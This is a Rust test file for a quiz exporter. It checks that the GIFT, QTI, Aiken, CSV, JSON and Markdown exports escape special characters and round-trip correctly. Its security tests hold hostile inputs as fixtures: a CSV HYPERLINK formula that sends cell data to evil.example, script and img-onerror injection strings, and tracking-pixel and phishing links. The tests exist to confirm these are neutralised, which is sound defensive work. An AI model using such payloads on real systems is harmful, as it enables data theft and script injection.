//! Every export parsed back and checked against the quiz, with items whose text holds the
//! formats' special characters: JSON round-trips; GIFT escapes `~ = # { } : \`; QTI is a
//! well-formed package whose manifest lists one parseable item file per question with the
//! right keys; Aiken and CSV carry the same stems and keys.
//!
//! Regressions (issue 13 item 8, issue 15 item 6), each failing on the code before the fix:
//! control characters in QTI; `\r` in GIFT; Aiken leaving kinds out without saying so; items
//! with an empty or out-of-range key or no options (editable through the API) panicking every
//! exporter; QTI feedback bound to an outcome that never takes its identifier; a text entry as
//! wide as its answer; cloze answers accepted only with their quotes; CSV cells that start
//! like a spreadsheet formula (a second security review).

use std::io::Read;

use docent_quiz::export::{export, render, Format, LeftOutReason, Rendered};
use docent_quiz::{Item, ItemKind, Level, Quiz, Rejections, Source, Status};

const NASTY: &str = "Use {braces} = ~tilde # hash: colon \\ back <tag> & \"quotes\" 'apostrophe'";

fn item(
    id: &str,
    kind: ItemKind,
    stem: &str,
    options: &[&str],
    key: &[usize],
    answers: &[&str],
) -> Item {
    Item {
        id: id.into(),
        kind,
        stem: stem.into(),
        options: options.iter().map(|s| s.to_string()).collect(),
        key: key.to_vec(),
        answers: answers.iter().map(|s| s.to_string()).collect(),
        explanation: format!("Because {NASTY}."),
        difficulty: 2,
        level: Level::Recall,
        source: Source {
            chunk_id: "d#0".into(),
            doc_id: "d".into(),
            title: "Doc".into(),
            heading_path: vec!["Doc".into()],
            quote: "q".into(),
            chunk_hash: "h".into(),
        },
        status: Status::Draft,
        stale: false,
        basis: Default::default(),
    }
}

fn quiz() -> Quiz {
    let mut rejected = item(
        "q7",
        ItemKind::TrueFalse,
        "True or false: rejected items are not exported.",
        &["True", "False"],
        &[0],
        &[],
    );
    rejected.status = Status::Rejected;
    Quiz {
        id: "quiz-1".into(),
        title: "Special {characters}".into(),
        scope: "docs:d".into(),
        generator: "rules".into(),
        items: vec![
            item(
                "q1",
                ItemKind::MultipleChoice,
                &format!("Which completes the sentence? {NASTY} _____."),
                &["a = b", "c ~ d", "e # f", "{g}"],
                &[2],
                &[],
            ),
            item(
                "q2",
                ItemKind::TrueFalse,
                &format!("True or false: {NASTY}"),
                &["True", "False"],
                &[1],
                &[],
            ),
            item(
                "q3",
                ItemKind::MultipleSelect,
                "Which are true? Select all that apply.",
                &["one: 1", "two = 2", "three {3}"],
                &[0, 2],
                &[],
            ),
            item(
                "q4",
                ItemKind::Cloze,
                "Fill in the blank: links stay valid for _____ & more.",
                &[],
                &[],
                &["7 days"],
            ),
            item(
                "q5",
                ItemKind::Ordering,
                "Put these steps for “A & B” in the right order.",
                &["Click <Save>.", "Open {it}.", "Type: name."],
                &[1, 2, 0],
                &[],
            ),
            item(
                "q6",
                ItemKind::ShortAnswer,
                "What does “tile” mean?",
                &[],
                &[],
                &["a chart = one query"],
            ),
            rejected,
        ],
        validation: Rejections::default(),
    }
}

#[test]
fn json_round_trips_without_rejected_items() {
    let q = quiz();
    let bytes = export(&q, Format::Json).unwrap();
    let back: Quiz = serde_json::from_slice(&bytes).unwrap();
    // Rejected items are never exported, in JSON either (an outside review found them there).
    let live = Quiz {
        items: q
            .items
            .iter()
            .filter(|i| i.status != Status::Rejected)
            .cloned()
            .collect(),
        ..q.clone()
    };
    assert!(live.items.len() < q.items.len());
    assert_eq!(back, live);
}

/// Splits GIFT text at unescaped `sep`, unescaping as it goes.
fn gift_unescape(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some(x) => out.push(x),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// What Moodle shows of a GIFT text a learner reads: unescaped, and its entities (the exporter
/// writes `&`, `<`, `>` and a leading `%` or `[` as entities) read as HTML does.
fn shown(s: &str) -> String {
    gift_unescape(s)
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&#37;", "%")
        .replace("&#91;", "[")
        .replace("&amp;", "&")
}

/// What an export left out: (item, reason), in the order it says them.
fn left_out(r: &Rendered) -> Vec<(&str, LeftOutReason)> {
    r.left_out
        .iter()
        .map(|l| (l.item.as_str(), l.reason))
        .collect()
}

/// Byte offsets of unescaped occurrences of `c`.
fn unescaped(s: &str, c: char) -> Vec<usize> {
    let mut out = Vec::new();
    let mut escaped = false;
    for (i, ch) in s.char_indices() {
        if escaped {
            escaped = false;
        } else if ch == '\\' {
            escaped = true;
        } else if ch == c {
            out.push(i);
        }
    }
    out
}

#[test]
fn gift_escapes_and_parses_back() {
    let q = quiz();
    let text = String::from_utf8(export(&q, Format::Gift).unwrap()).unwrap();
    let blocks: Vec<&str> = text
        .split("\n\n")
        .map(str::trim)
        .filter(|b| b.starts_with("::"))
        .collect();
    assert_eq!(blocks.len(), 6, "rejected items are left out:\n{text}");
    for (b, it) in blocks.iter().zip(&q.items) {
        let colons = unescaped(b, ':');
        // ::id:: then the stem up to the unescaped {.
        let id = &b[colons[1] + 1..colons[2]];
        assert_eq!(gift_unescape(id), it.id);
        let open = unescaped(b, '{');
        let close = unescaped(b, '}');
        assert_eq!((open.len(), close.len()), (1, 1), "one answer block in {b}");
        let stem = shown(b[colons[3] + 1..open[0]].trim());
        assert_eq!(stem, it.stem);
        let body = &b[open[0] + 1..close[0]];
        let feedback = unescaped(body, '#');
        let answers = &body[..feedback[0]];
        match it.kind {
            ItemKind::MultipleChoice => {
                let marks: Vec<usize> = answers
                    .char_indices()
                    .filter(|(i, c)| {
                        (*c == '=' || *c == '~') && (*i == 0 || &answers[i - 1..*i] != "\\")
                    })
                    .map(|(i, _)| i)
                    .collect();
                assert_eq!(marks.len(), 4, "{answers}");
                for (n, m) in marks.iter().enumerate() {
                    let end = marks.get(n + 1).copied().unwrap_or(answers.len());
                    let opt = shown(answers[m + 1..end].trim());
                    assert_eq!(opt, it.options[n]);
                    assert_eq!(&answers[*m..m + 1] == "=", it.key.contains(&n));
                }
            }
            ItemKind::TrueFalse => assert_eq!(
                answers.trim(),
                if it.key[0] == 0 { "TRUE" } else { "FALSE" }
            ),
            ItemKind::MultipleSelect => {
                assert_eq!(answers.matches("~%").count(), it.options.len());
                assert_eq!(
                    answers.matches("~%-").count(),
                    it.options.len() - it.key.len()
                );
            }
            ItemKind::Cloze | ItemKind::ShortAnswer => {
                assert_eq!(
                    gift_unescape(answers.trim().trim_start_matches('=')),
                    it.answers[0]
                );
            }
            ItemKind::Ordering => assert_eq!(answers.matches("->").count(), it.options.len()),
        }
    }
}

#[test]
fn qti_package_parses_with_keys() {
    let q = quiz();
    let bytes = export(&q, Format::Qti).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut manifest = String::new();
    zip.by_name("imsmanifest.xml")
        .unwrap()
        .read_to_string(&mut manifest)
        .unwrap();
    let doc = roxmltree::Document::parse(&manifest).unwrap();
    let hrefs: Vec<String> = doc
        .descendants()
        .filter(|n| n.has_tag_name("resource"))
        .map(|n| n.attribute("href").unwrap().to_string())
        .collect();
    assert_eq!(hrefs.len(), 6);
    for (href, it) in hrefs.iter().zip(&q.items) {
        let mut xml = String::new();
        zip.by_name(href).unwrap().read_to_string(&mut xml).unwrap();
        let d = roxmltree::Document::parse(&xml).unwrap();
        let root = d.root_element();
        assert_eq!(root.attribute("identifier"), Some(it.id.as_str()));
        let values: Vec<String> = d
            .descendants()
            .filter(|n| n.has_tag_name("correctResponse"))
            .flat_map(|n| n.children().filter(|c| c.has_tag_name("value")))
            .map(|v| v.text().unwrap_or_default().to_string())
            .collect();
        let choices: Vec<(String, String)> = d
            .descendants()
            .filter(|n| n.has_tag_name("simpleChoice"))
            .map(|n| {
                (
                    n.attribute("identifier").unwrap().to_string(),
                    n.text().unwrap_or_default().to_string(),
                )
            })
            .collect();
        match it.kind {
            ItemKind::Cloze | ItemKind::ShortAnswer => {
                assert_eq!(values, it.answers[..1]);
                let keys: Vec<&str> = d
                    .descendants()
                    .filter(|n| n.has_tag_name("mapEntry"))
                    .filter_map(|n| n.attribute("mapKey"))
                    .collect();
                for a in &it.answers {
                    assert!(keys.contains(&a.as_str()), "{a} in {keys:?}");
                }
            }
            _ => {
                let texts: Vec<&String> = choices.iter().map(|c| &c.1).collect();
                assert_eq!(texts, it.options.iter().collect::<Vec<_>>());
                let keyed: Vec<String> = it.key.iter().map(|k| choices[*k].0.clone()).collect();
                assert_eq!(values, keyed, "{xml}");
            }
        }
        let prompt_text: String = d
            .descendants()
            .filter(|n| n.has_tag_name("itemBody"))
            .flat_map(|n| {
                n.descendants()
                    .filter(|x| x.is_text())
                    .map(|x| x.text().unwrap_or_default().to_string())
            })
            .collect();
        assert!(
            prompt_text.contains(it.stem.split("_____").next().unwrap().trim()),
            "{prompt_text}"
        );
    }
}

#[test]
fn aiken_and_csv_carry_stems_and_keys() {
    let q = quiz();
    let aiken = String::from_utf8(export(&q, Format::Aiken).unwrap()).unwrap();
    let blocks: Vec<&str> = aiken
        .split("\n\n")
        .filter(|b| !b.trim().is_empty())
        .collect();
    assert_eq!(
        blocks.len(),
        2,
        "only multiple choice and true/false: {aiken}"
    );
    for (b, it) in blocks.iter().zip(&q.items[..2]) {
        let lines: Vec<&str> = b.lines().collect();
        assert_eq!(lines[0], it.stem);
        assert_eq!(
            lines.last().unwrap(),
            &format!("ANSWER: {}", (b'A' + it.key[0] as u8) as char)
        );
    }
    let csv_bytes = export(&q, Format::Csv).unwrap();
    let mut r = csv::Reader::from_reader(&csv_bytes[..]);
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    assert_eq!(rows.len(), 6);
    for (row, it) in rows.iter().zip(&q.items) {
        assert_eq!(&row[0], it.id);
        assert_eq!(&row[2], it.stem);
        assert_eq!(&row[3], it.options.join(" | "));
    }
}

fn package_items(bytes: Vec<u8>) -> Vec<String> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = Vec::new();
    for n in 0..zip.len() {
        let mut f = zip.by_index(n).unwrap();
        if f.name().unwrap().starts_with("items/") {
            let mut xml = String::new();
            f.read_to_string(&mut xml).unwrap();
            out.push(xml);
        }
    }
    out
}

// Issue 13 item 8: U+0001, U+0008 and U+000B made QTI XML unparsable.
#[test]
fn qti_strips_control_characters() {
    let mut q = quiz();
    for it in &mut q.items {
        it.stem = format!("Bell\u{1}back\u{8}tab\u{b}: {}", it.stem);
        it.explanation.push_str("\u{1}\u{b}");
        for o in &mut it.options {
            o.push('\u{8}');
        }
    }
    let items = package_items(export(&q, Format::Qti).unwrap());
    assert_eq!(items.len(), 6);
    for xml in items {
        let d = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}: {xml:?}"));
        assert!(d
            .descendants()
            .filter_map(|n| n.text())
            .all(|t| !t.contains(['\u{1}', '\u{8}', '\u{b}'])));
    }
}

/// The eighth outside probe: GIFT syntax that no backslash escapes, read by Moodle's importer.
/// A `->` inside the braces made an ordering's pairs split at the step's own arrow (learners
/// then saw each step's position) and any other question a matching one; a leading `%50%`
/// re-weighted an answer (the right one could score 0); a leading `[html]` switched a text's
/// format; `<` opened a tag. Shown text now carries them as entities; a typed answer cannot
/// (it is compared as written), so its item is left out and said.
#[test]
fn gift_text_holds_no_syntax_that_moodle_reads_and_no_escape_covers() {
    let mut ordering = item(
        "o1",
        ItemKind::Ordering,
        "[html] Put these steps for “Create an alert” in the right order.",
        &[
            "Open Settings -> Alerts in the sidebar.",
            "Click New alert -> Threshold.",
            "Select the channel -> Email.",
        ],
        &[0, 1, 2],
        &[],
    );
    ordering.explanation = "Settings -> Alerts, then <b>New alert</b>.".into();
    let choice = item(
        "m1",
        ItemKind::MultipleChoice,
        "Which setting groups alerts into one message per hour?",
        &[
            "%0%Digest",
            " [markdown] Summary",
            "Batch -> Hourly",
            "Plain",
        ],
        &[0],
        &[],
    );
    let weighted_key = item(
        "c1",
        ItemKind::Cloze,
        "The _____ setting groups alerts.",
        &[],
        &[],
        &["%0%Digest"],
    );
    let arrow_key = item(
        "s1",
        ItemKind::ShortAnswer,
        "Which operator calls a method on a pointer?",
        &[],
        &[],
        &["a->b"],
    );
    // The code review of the fix: Moodle's short answer reads `*` as "anything", and a
    // multiple choice of one option as a short answer.
    let star_key = item(
        "s2",
        ItemKind::ShortAnswer,
        "Which pattern matches every CSV file?",
        &[],
        &[],
        &["*.csv"],
    );
    let one_option = item(
        "m2",
        ItemKind::MultipleChoice,
        "Which setting groups alerts?",
        &["Digest"],
        &[0],
        &[],
    );
    let q = Quiz {
        items: vec![
            ordering,
            choice,
            weighted_key,
            arrow_key,
            star_key,
            one_option,
        ],
        ..quiz()
    };
    let r = render(&q, Format::Gift).unwrap();
    let left = left_out(&r);
    assert_eq!(
        left,
        vec![
            ("c1", LeftOutReason::FormatSyntax),
            ("s1", LeftOutReason::FormatSyntax),
            ("m2", LeftOutReason::FormatSyntax)
        ]
    );
    let text = String::from_utf8(r.bytes.clone()).unwrap();
    assert!(
        text.contains(r"{=\\*.csv "),
        "the star stands for itself: {text}"
    );
    let blocks: Vec<&str> = text
        .split("\n\n")
        .map(str::trim)
        .filter(|b| b.starts_with("::"))
        .collect();
    let exported: Vec<&Item> = q
        .items
        .iter()
        .filter(|i| !left.iter().any(|(id, _)| *id == i.id))
        .collect();
    assert_eq!(blocks.len(), exported.len(), "{text}");
    for (b, it) in blocks.iter().zip(exported) {
        let colons = unescaped(b, ':');
        let open = unescaped(b, '{');
        let close = unescaped(b, '}');
        let stem = b[colons[3] + 1..open[0]].trim();
        assert!(!stem.starts_with('['), "a format marker opens {stem}");
        assert_eq!(shown(stem), it.stem);
        let body = &b[open[0] + 1..close[0]];
        assert!(!body.contains('<'), "a tag in {body}");
        if it.kind == ItemKind::ShortAnswer {
            continue;
        }
        let arrows = body.matches("->").count();
        let pairs = if it.kind == ItemKind::Ordering {
            it.options.len()
        } else {
            0
        };
        assert_eq!(arrows, pairs, "only the pairs' own arrows in {body}");
        let answers = &body[..unescaped(body, '#')[0]];
        for part in answers.split(['=', '~']).skip(1) {
            let part = part.trim_start();
            assert!(
                !part.starts_with('%') && !part.starts_with('['),
                "an answer Moodle reads as a weight or a format: {part}"
            );
        }
        if it.kind == ItemKind::MultipleChoice {
            let options: Vec<String> = answers
                .split(['=', '~'])
                .skip(1)
                .map(|o| shown(o.trim()))
                .collect();
            let want: Vec<String> = it.options.iter().map(|o| o.trim().to_string()).collect();
            assert_eq!(options, want);
        }
        if it.kind == ItemKind::Ordering {
            let steps: Vec<String> = answers
                .split(" =")
                .map(|p| {
                    shown(
                        p.trim()
                            .trim_start_matches('=')
                            .rsplit_once(" -> ")
                            .unwrap()
                            .0,
                    )
                })
                .collect();
            assert_eq!(steps, it.options);
        }
    }
}

// Issue 13 item 8: GIFT left `\r` unescaped, which ends the question in Moodle's parser.
#[test]
fn gift_escapes_carriage_returns() {
    let mut q = quiz();
    q.items[0].stem = "First line\r\nsecond\rthird _____.".into();
    q.items[3].answers = vec!["seven\rdays".into()];
    let text = String::from_utf8(export(&q, Format::Gift).unwrap()).unwrap();
    assert!(!text.contains('\r'), "{text:?}");
    assert!(text.contains("First line\\nsecond\\nthird"), "{text}");
}

// The code review of the eighth probe's fixes: an Aiken stem that starts like an option line
// or the answer line is read as one.
#[test]
fn aiken_leaves_out_a_stem_it_would_read_as_an_option() {
    let mut q = quiz();
    q.items[0].stem = "A. Open Settings: which step comes first?".into();
    q.items[1].stem = "answer: the key is shown".into();
    let r = render(&q, Format::Aiken).unwrap();
    let syntax: Vec<&str> = r
        .left_out
        .iter()
        .filter(|l| l.reason == LeftOutReason::FormatSyntax)
        .map(|l| l.item.as_str())
        .collect();
    assert_eq!(syntax, vec!["q1", "q2"]);
    assert!(r.bytes.is_empty(), "{}", String::from_utf8_lossy(&r.bytes));
}

// Issue 13 item 8 / issue 15: Aiken dropped cloze, ordering, ... silently.
#[test]
fn aiken_reports_what_it_left_out() {
    let q = quiz();
    let r = render(&q, Format::Aiken).unwrap();
    let left = left_out(&r);
    assert_eq!(
        left,
        vec![
            ("q3", LeftOutReason::KindNotSupported),
            ("q4", LeftOutReason::KindNotSupported),
            ("q5", LeftOutReason::KindNotSupported),
            ("q6", LeftOutReason::KindNotSupported),
        ]
    );
    assert_eq!(r.exported(&q), 2);
    // GIFT holds every kind.
    assert!(render(&q, Format::Gift).unwrap().left_out.is_empty());
}

// Issue 13 item 7/8: a PATCHed item with `"key": []` or `"options": []` made every exporter
// index past the end.
#[test]
fn broken_items_are_left_out_and_reported_never_a_panic() {
    let mut q = quiz();
    q.items[0].key = vec![];
    q.items[1].options = vec![];
    q.items[2].key = vec![0, 9];
    q.items[3].answers = vec![];
    q.items[4].key = vec![0, 0, 1];
    q.items[5].answers = vec!["  ".into()];
    let want = vec![
        ("q1", LeftOutReason::NoKey),
        ("q2", LeftOutReason::NoOptions),
        ("q3", LeftOutReason::KeyOutOfRange),
        ("q4", LeftOutReason::NoAnswer),
        ("q5", LeftOutReason::KeyShape),
        ("q6", LeftOutReason::NoAnswer),
    ];
    for format in [Format::Gift, Format::Qti, Format::Markdown] {
        let r = render(&q, format).unwrap();
        let left = left_out(&r);
        assert_eq!(left, want, "{format:?}");
    }
    let aiken = render(&q, Format::Aiken).unwrap();
    assert_eq!(aiken.left_out.len(), 6);
    assert!(aiken.bytes.is_empty());
    assert!(package_items(render(&q, Format::Qti).unwrap().bytes).is_empty());
    // JSON and CSV are data, not questions: they keep the items as they are.
    assert_eq!(render(&q, Format::Json).unwrap().left_out.len(), 0);
    assert_eq!(render(&q, Format::Csv).unwrap().left_out.len(), 0);
}

// Issue 15: the modal feedback was bound to SCORE, which never holds the feedback's
// identifier, so explanations never showed.
#[test]
fn qti_feedback_shows_after_response_processing() {
    for xml in package_items(export(&quiz(), Format::Qti).unwrap()) {
        let d = roxmltree::Document::parse(&xml).unwrap();
        let fb = d
            .descendants()
            .find(|n| n.has_tag_name("modalFeedback"))
            .unwrap();
        let outcome = fb.attribute("outcomeIdentifier").unwrap();
        let shown = fb.attribute("identifier").unwrap();
        assert!(fb.text().unwrap().starts_with("Because"));
        let declared = d
            .descendants()
            .find(|n| {
                n.has_tag_name("outcomeDeclaration") && n.attribute("identifier") == Some(outcome)
            })
            .unwrap();
        assert_eq!(declared.attribute("baseType"), Some("identifier"), "{xml}");
        let set = d
            .descendants()
            .filter(|n| n.has_tag_name("responseProcessing"))
            .flat_map(|n| n.children())
            .find(|n| {
                n.has_tag_name("setOutcomeValue") && n.attribute("identifier") == Some(outcome)
            })
            .unwrap_or_else(|| panic!("response processing sets {outcome}: {xml}"));
        assert_eq!(set.descendants().find_map(|n| n.text()), Some(shown));
    }
}

fn expected_length(xml: &str) -> Option<String> {
    let d = roxmltree::Document::parse(xml).unwrap();
    d.descendants()
        .find(|n| n.has_tag_name("textEntryInteraction"))
        .and_then(|n| n.attribute("expectedLength").map(str::to_string))
}

// Issue 15: expectedLength equalled the answer's length, a hint.
#[test]
fn qti_text_entry_width_gives_nothing_away() {
    let mut q = quiz();
    q.items[3].answers = vec!["7 days".into()];
    let a = expected_length(&package_items(export(&q, Format::Qti).unwrap())[3]);
    q.items[3].answers = vec!["a much longer answer here".into()];
    let b = expected_length(&package_items(export(&q, Format::Qti).unwrap())[3]);
    assert!(a.is_some());
    assert_eq!(a, b);
}

// Issue 15: a cloze needed the exact string with its quotes.
#[test]
fn cloze_accepts_listed_variants() {
    let mut q = quiz();
    q.items[3].answers = vec!["“Phone”".into(), "mobile".into()];
    let gift = String::from_utf8(export(&q, Format::Gift).unwrap()).unwrap();
    for v in ["=“Phone”", "=Phone", "=mobile"] {
        assert!(gift.contains(v), "{v} in {gift}");
    }
    let xml = &package_items(export(&q, Format::Qti).unwrap())[3];
    let d = roxmltree::Document::parse(xml).unwrap();
    let entries: Vec<(&str, Option<&str>)> = d
        .descendants()
        .filter(|n| n.has_tag_name("mapEntry"))
        .map(|n| (n.attribute("mapKey").unwrap(), n.attribute("caseSensitive")))
        .collect();
    assert_eq!(
        entries,
        vec![
            ("“Phone”", Some("false")),
            ("Phone", Some("false")),
            ("mobile", Some("false"))
        ]
    );
    assert!(
        xml.contains("<mapResponse identifier=\"RESPONSE\"/>"),
        "{xml}"
    );
}

#[test]
fn csv_cells_never_start_like_a_formula() {
    let mut q = quiz();
    q.items[0].stem = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Source\")".into();
    q.items[0].explanation = "@SUM(1+1)".into();
    q.items[1].stem = "+1+2".into();
    q.items[1].options = vec!["-3".into(), "\u{ff1d}1+1".into()];
    let csv_bytes = export(&q, Format::Csv).unwrap();
    let mut r = csv::Reader::from_reader(&csv_bytes[..]);
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    for row in &rows {
        for c in row.iter() {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\u{ff1d}']),
                "a cell starts like a formula: {c:?}"
            );
        }
    }
    assert_eq!(
        &rows[0][2],
        "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Source\")"
    );
    assert_eq!(&rows[0][6], "'@SUM(1+1)");
    assert_eq!(&rows[1][3], "'-3 | \u{ff1d}1+1");
}

// Second security probe, finding 5: the Markdown export's "Source:" line carried a doc's title
// and headings raw (`<script>`, `<img onerror>`, a line break starting a heading, a bidi
// override).
#[test]
fn the_markdown_source_line_is_text() {
    let mut q = quiz();
    for i in &mut q.items {
        i.source.title = "Evil ]]></title><script>alert(1)</script>\n# Injected \u{202E}gnp".into();
        i.source.heading_path = vec!["Vers <img src=x onerror=alert(2)>".into()];
        i.source.doc_id = "hostile/<b>x</b>".into();
    }
    let text = String::from_utf8(export(&q, Format::Markdown).unwrap()).unwrap();
    assert!(text.contains("Source: Evil"), "{text}");
    for raw in ["<script", "<img", "<b>", "\n# Injected", "\u{202E}"] {
        assert!(!text.contains(raw), "{raw:?} in {text}");
    }
}

// Seventh probe, finding 9: Markdown images and links in an item stayed live in the review
// file (a tracking pixel or a phishing link in the reviewer's previewer).
#[test]
fn the_markdown_export_makes_no_link_or_image() {
    let mut q = quiz();
    q.title = "Quiz ![t](https://evil.example/p.png)".into();
    for i in &mut q.items {
        i.explanation = "See [the docs](https://evil.example/login).".into();
    }
    let text = String::from_utf8(export(&q, Format::Markdown).unwrap()).unwrap();
    for live in ["![t](", "[the docs]("] {
        assert!(!text.contains(live), "{live:?} in {text}");
    }
    assert!(text.contains(r"\[the docs\]"), "{text}");
    // Eighth probe, finding 6: a bare address is linked by previewers on its own.
    for i in &mut q.items {
        i.stem = "True or false: the Webhook URL defaults to https://hooks.evil.example/c?t=1 \
                  or www.evil.example."
            .into();
    }
    let text = String::from_utf8(export(&q, Format::Markdown).unwrap()).unwrap();
    for live in ["https://", "www.evil"] {
        assert!(!text.contains(live), "{live:?} in {text}");
    }
    assert!(text.contains(r"https:\/\/hooks.evil.example"), "{text}");
}
